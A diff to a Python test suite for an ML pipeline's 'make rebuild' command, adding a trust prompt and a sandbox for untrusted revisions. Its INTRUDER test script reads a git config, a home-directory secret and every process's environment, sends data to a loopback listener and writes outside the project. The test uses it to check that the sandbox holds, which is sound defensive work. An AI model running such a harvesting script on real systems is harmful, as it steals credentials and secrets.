@@ -37,6 +37,7 @@ TARGETS_RUN_END_TO_END = {
     "pull",
     "status",
     "rebuild",
+    "sandbox",
     "field-rebuild",
     "release-list",
     "release",
@@ -321,13 +322,22 @@ def test_ci_targets_pass_on_a_clean_project_and_rebuild_names_the_edits_it_leave
 
 @in_released_group
 def test_rebuild_of_an_old_tag_matches_and_leaves_the_workspace_alone(released):
+    """v1 is a plain tag, not a verified release: the rebuild says what running it means and
+    runs nothing until the user names it again (TRUST=v1); then it runs sealed and matches."""
     before_head, before_params = head(released), (released.path / "params.yaml").read_bytes()
-    result = released.make("rebuild", "REV=v1")
+    refused = released.make("rebuild", "REV=v1", check=False)
+    assert refused.returncode == 2, refused.stdout + refused.stderr
+    assert "v1 (" in refused.stderr and "is the tag v1," in refused.stderr
+    assert "not a verified release" in refused.stderr and "TRUST=v1" in refused.stderr
+    assert "[1/4]" not in refused.stdout  # nothing was fetched, installed or run
+    result = released.make("rebuild", "REV=v1", "TRUST=v1")
     assert "rebuild of v1" in result.stdout and ": MATCH" in result.stdout
+    assert "UNSEALED" not in result.stdout
     for stage in ("params", "prepare", "train", "evaluate", "verify"):
         assert re.search(rf"^\s+{stage}\s+MATCH$", result.stdout, re.MULTILINE), stage
     assert re.search(
-        r"time to reproduce: [\d.]+ s \(environment .* compute .* compare", result.stdout
+        r"time to reproduce: [\d.]+ s \(fetch .* environment .* compute .* compare .*\), sealed",
+        result.stdout,
     )
     assert head(released) == before_head
     assert (released.path / "params.yaml").read_bytes() == before_params
@@ -335,7 +345,7 @@ def test_rebuild_of_an_old_tag_matches_and_leaves_the_workspace_alone(released):
     assert "rebuild-" not in run(["git", "worktree", "list"], cwd=released.path).stdout
     v1 = run(["git", "rev-parse", "v1"], cwd=released.path).stdout.strip()
     records = rebuild_notes(released, v1)
-    assert records[-1]["result"] == "match"
+    assert records[-1]["result"] == "match" and records[-1]["sealed"] is True
     assert set(records[-1]["timings"]) == {"environment", "fetch", "compute", "compare", "total"}
 
 
@@ -347,10 +357,111 @@ def test_rebuild_in_a_varied_environment_matches(released):
         "LANG": "C.UTF-8",
         "PYTHONHASHSEED": "31337",
     }
-    result = released.make("rebuild", "REV=v1", "REBUILD_ARGS=--vary", env=hostile, umask=0o002)
+    varied = ("REV=v1", "TRUST=v1", "REBUILD_ARGS=--vary")
+    result = released.make("rebuild", *varied, env=hostile, umask=0o002)
     assert ": MATCH" in result.stdout
     v1 = run(["git", "rev-parse", "v1"], cwd=released.path).stdout.strip()
     assert rebuild_notes(released, v1)[-1]["varied_environment"] is True
+
+
+# What a pushed revision's stage tries, run by `make rebuild`: the parent's .git/config
+# through the clone's alternates file and by its path, the user's HOME, every process's
+# environment under /proc, the network (a server of the test's, on loopback), and a file
+# beside the project. It prints what it found.
+INTRUDER = """
+import glob, os, pathlib, socket
+found = []
+def read(path):
+    try:
+        found.append(pathlib.Path(path).read_text(errors="replace"))
+    except OSError:
+        pass
+alternates = pathlib.Path(".git/objects/info/alternates")
+if alternates.is_file():
+    read(pathlib.Path(alternates.read_text().strip()).parent / "config")
+for path in [{project} + "/.git/config", {home} + "/secret.txt", "~/secret.txt"]:
+    read(os.path.expanduser(path))
+for path in glob.glob("/proc/*/environ"):
+    read(path)
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"exfiltrated")
+    found.append("NETWORK-REACHED")
+except OSError:
+    pass
+try:
+    pathlib.Path({outside}).write_text("written")
+except OSError:
+    pass
+print("INTRUDER SAW", len(glob.glob("/proc/[0-9]*")), "processes:", " | ".join(found))
+"""
+
+
+@in_released_group
+def test_a_pushed_revision_runs_only_when_named_twice_and_then_sealed_finds_no_secret(
+    released, tmp_path
+):
+    """An attacker pushes a branch and an unsigned tag model@v6.6.6 whose first stage runs
+    their script. `make rebuild` of either runs nothing until the user names it again. Named
+    (TRUST=), it runs sealed: the script finds no .git/config, HOME file, other process's
+    environment or network, and writes nothing outside. Unsealed (bubblewrap turned off) the
+    same script finds every canary: the test can see a leak."""
+    import socket
+
+    canaries = {"GIT-CONFIG-CANARY", "HOME-CANARY", "ENVIRON-CANARY"}
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "secret.txt").write_text("HOME-CANARY")
+    outside = tmp_path / "written-from-the-rebuild"
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.settimeout(0.1)
+    port = listener.getsockname()[1]
+    released.git("config", "reproml.canary", "GIT-CONFIG-CANARY")
+    branch = run(["git", "rev-parse", "--abbrev-ref", "HEAD"], cwd=released.path).stdout.strip()
+    paths = {"project": released.path, "home": home, "outside": outside}
+    script = INTRUDER.format(port=port, **{key: repr(str(path)) for key, path in paths.items()})
+    (released.path / "intruder.py").write_text(script)
+    pipeline = yaml.safe_load((released.path / "dvc.yaml").read_text())
+    first = next(iter(pipeline["stages"]))
+    pipeline["stages"][first]["cmd"] = "python intruder.py && " + pipeline["stages"][first]["cmd"]
+    (released.path / "dvc.yaml").write_text(yaml.safe_dump(pipeline, sort_keys=False))
+    released.git("checkout", "-qb", "intruder")
+    released.git("add", "intruder.py", "dvc.yaml")
+    released.git("commit", "-qm", "a pushed revision")
+    released.git("tag", "model@v6.6.6")
+    released.git("checkout", "-q", branch)
+    env = {"HOME": str(home), "AWS_SECRET_ACCESS_KEY": "ENVIRON-CANARY"}
+    try:
+        for rev, what in (("intruder", "the branch intruder"), ("v6.6.6", "the tag model@v6.6.6")):
+            refused = released.make("rebuild", f"REV={rev}", env=env, check=False)
+            assert refused.returncode == 2, refused.stdout + refused.stderr
+            assert what in refused.stderr and f"TRUST={rev}" in refused.stderr, refused.stderr
+            assert "sealed (no network" in refused.stderr
+            assert "INTRUDER SAW" not in refused.stdout
+        sealed = released.make("rebuild", "REV=v6.6.6", "TRUST=v6.6.6", env=env, check=False)
+        said = sealed.stdout + sealed.stderr
+        seen = re.search(r"INTRUDER SAW (\d+) processes:(.*)", said)
+        assert seen, said  # it ran, sealed
+        assert int(seen[1]) < 10, seen[0]  # its own few processes, not the machine's
+        assert not any(canary in said for canary in canaries), seen[0]
+        assert "NETWORK-REACHED" not in said and not outside.exists()
+        with pytest.raises(TimeoutError):
+            listener.accept()
+        commit = run(["git", "rev-parse", "intruder"], cwd=released.path).stdout.strip()
+        assert rebuild_notes(released, commit)[-1]["sealed"] is True
+
+        unsealed_env = {**env, "REPRO_BWRAP": ""}
+        trusted = ("REV=intruder", "TRUST=intruder")
+        unsealed = released.make("--silent", "rebuild", *trusted, env=unsealed_env, check=False)
+        said = unsealed.stdout + unsealed.stderr
+        assert unsealed.stdout.splitlines()[0].startswith("warning: UNSEALED: REPRO_BWRAP"), said
+        assert canaries <= set(re.findall(r"[A-Z-]+-CANARY", said)), said
+        assert "NETWORK-REACHED" in said and outside.exists()
+        assert rebuild_notes(released, commit)[-1]["sealed"] is False
+    finally:
+        listener.close()
+        released.git("config", "--unset", "reproml.canary")
+        released.git("tag", "-d", "model@v6.6.6")
+        released.git("branch", "-D", "intruder")
 
 
 def cache_object(project: Project, md5: str) -> Path:
@@ -446,7 +557,7 @@ def test_a_corrupted_read_only_cache_object_is_caught(released):
         corrupted[200] ^= 0x01
         target.write_bytes(bytes(corrupted))
         target.chmod(0o444)
-        result = released.make("rebuild", "REV=v1", check=False)
+        result = released.make("rebuild", "REV=v1", "TRUST=v1", check=False)
         assert result.returncode != 0
         assert "corrupted" in result.stdout and str(target) in result.stdout
         assert ": MATCH" not in result.stdout
@@ -469,7 +580,7 @@ def test_data_missing_from_remote_and_cache_is_named(released, tmp_path):
     try:
         for path, keep in moved:
             path.rename(keep)
-        result = released.make("rebuild", "REV=v1", check=False)
+        result = released.make("rebuild", "REV=v1", "TRUST=v1", check=False)
         assert result.returncode != 0
         assert "missing from the DVC remote and the local cache" in result.stdout
         assert raw_data_md5(released) in result.stdout
